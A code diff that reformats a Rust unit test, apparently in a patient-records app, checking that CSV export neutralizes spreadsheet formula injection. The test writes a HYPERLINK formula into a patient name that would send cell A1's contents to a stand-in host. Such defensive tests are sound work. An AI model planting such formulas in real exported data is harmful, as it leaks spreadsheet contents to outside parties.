@@ -289,7 +289,12 @@ mod tests {
     #[test]
     fn csv_cells_that_a_spreadsheet_would_run_are_neutralized() {
         let (_d, db, p) = seeded();
-        db.conn().execute("UPDATE patients SET name = ?1 WHERE id = ?2", params!["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", p]).unwrap();
+        db.conn()
+            .execute(
+                "UPDATE patients SET name = ?1 WHERE id = ?2",
+                params!["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", p],
+            )
+            .unwrap();
         let rows = activities(&db, &ActivityFilter::default()).unwrap();
         let csv = activities_csv(&rows);
         let mut reader = csv::Reader::from_reader(csv.as_bytes());
